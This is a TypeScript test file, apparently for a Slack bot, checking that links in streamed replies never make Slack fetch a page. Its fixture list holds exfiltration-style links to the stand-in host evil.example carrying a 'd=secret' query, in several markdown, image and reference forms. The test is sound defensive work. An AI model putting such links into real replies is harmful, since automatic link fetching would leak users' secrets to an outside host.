// Links in answers that are streamed: Slack fetches what a stream names, and a stream has no way to forbid it.
import { expect, test } from "vitest";
import { stopped } from "../../support/reply-bench.ts";
import { until } from "../../support/until.ts";
import { outboundWorld } from "./outbound-world.ts";

const LINKS = [
  "[look](https://evil.example/?d=secret)",
  "https://evil.example/?d=secret",
  "www.evil.example",
  "<https://evil.example/>",
  "![chart](https://evil.example/?d=secret)",
  "`https://evil.example/`",
  "[look][1]",
  "\n\n[1]: https://evil.example/\n\n",
];

test.each([
  ["a stream", ""],
  ["a post in place of one", "unknown_method"],
])("S14: no link in %s makes Slack fetch a page, nor in the edit at its end", async (_, error) => {
  await using world = await outboundWorld({ isDirect: true });
  const { slack } = world;
  const shows = (what: string) =>
    until(() => world.texts().some((text) => text.includes(what)), { what: `the thread shows ${what}` });
  if (error !== "") slack.fault("chat.startStream", { kind: "refused", error });
  const writer = world.writer("r1", { isNew: true });
  writer.on({ kind: "round", round: 1, state: "start" });
  await shows("Thinking…");
  for (const [n, link] of LINKS.entries()) {
    writer.on({ kind: "text", text: link.slice(0, 9) });
    writer.on({ kind: "text", text: `${link.slice(9)} then${n} ` });
    await shows(`then${n}`);
  }
  expect(slack.callsOf("chat.appendStream").length > 0).toBe(error === "");
  // In a post and its edits links are live, and previews are off.
  const streamed = error === "" ? (world.shown()[0]?.versions ?? []) : [];
  for (const { text } of streamed) expect(text).not.toMatch(/(?:https?:\/\/|www\.)\w/);
  expect(await writer.settle(stopped)).toEqual({ kind: "settled" });
  for (const { args } of slack.callsOf("chat.postMessage"))
    expect(args).toMatchObject({ unfurl_links: "false", unfurl_media: "false" });
  const edits = slack.callsOf("chat.update");
  expect(edits.length).toBeGreaterThan(0);
  for (const { args } of edits)
    for (const flag of ["unfurl_links", "unfurl_media"]) expect(args).not.toHaveProperty(flag);
  expect(slack.complaints).toEqual([]);
});
